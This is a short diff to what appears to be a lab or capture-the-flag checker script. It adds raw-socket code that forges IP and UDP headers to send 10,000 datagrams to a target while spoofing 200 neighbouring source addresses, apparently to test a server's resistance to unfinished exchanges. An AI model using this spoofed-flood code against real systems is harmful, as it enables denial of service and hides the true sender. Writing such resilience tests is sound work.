@@ -4,6 +4,7 @@ flags were earned."""
 import base64
 import re
 import socket
+import struct
 import subprocess
 import sys
 import threading
@@ -196,6 +197,12 @@ def ten_thousand_first_steps_and_no_second():
     d = Datagram(DATAGRAM)
     for i in range(10000):
         d.s.sendto(b"student%d" % (i % 300), d.to)
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    for i in range(10000):  # and in the names of 200 neighbours
+        data = b"student%d" % (i % 300)
+        raw.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 1, 0, 64, 17, 0, bytes([10, 10, 0, 41 + i % 200]),
+                               socket.inet_aton(TARGET)) +
+                   struct.pack("!HHHH", 20000 + i, DATAGRAM, 8 + len(data), 0) + data, (TARGET, 0))
     d.s.settimeout(0.5)
     answers = 0
     try:
